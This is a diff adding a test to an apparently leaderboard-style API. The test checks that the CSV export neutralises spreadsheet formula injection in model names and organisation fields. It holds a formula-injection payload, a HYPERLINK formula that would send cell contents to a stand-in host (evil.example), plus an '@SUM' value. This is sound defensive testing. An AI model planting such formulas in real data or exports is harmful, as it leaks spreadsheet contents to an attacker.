@@ -53,6 +53,22 @@ def test_csv_and_json_agree_with_the_snapshot(client, db, arena, query):
         assert model["human_votes"] + model["judge_votes"] == model["matches"]
 
 
+def test_csv_cells_a_spreadsheet_would_run_stay_text(client, db, arena):
+    b = arena["m-b"]
+    made = client.post("/api/v1/models", headers=ADMIN, json={
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"m-a")', "organisation": "@SUM(1+1)"})
+    assert made.status_code == 201, made.text
+    assert client.post(f"/api/v1/models/{made.json()['id']}/responses", headers=ADMIN, files={
+        "file": ("r.zip", responses_zip([k for k, _, _ in PROMPTS]), "application/zip")}
+    ).status_code == 201
+    insert_votes(db, [("e1", made.json()["id"], b, "a", "ann")])
+    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(
+        client.get("/api/v1/leaderboard", params={"format": "csv"}).text))}
+    evil = rows["'=HYPERLINK(\"http://evil.example/?\"&A1,\"m-a\")"]
+    assert evil["organisation"] == "'@SUM(1+1)"
+    assert float(evil["rating"]) > 0 and rows["m-b"]["name"] == "m-b"  # the rest as it is
+
+
 def test_votes_by_humans_and_by_judges(client, db, arena):
     a, b, c, _ = arena.values()
     insert_votes(db, [("e1", a, b, "a", "ann"), ("e1", a, b, "tie", "bob"),
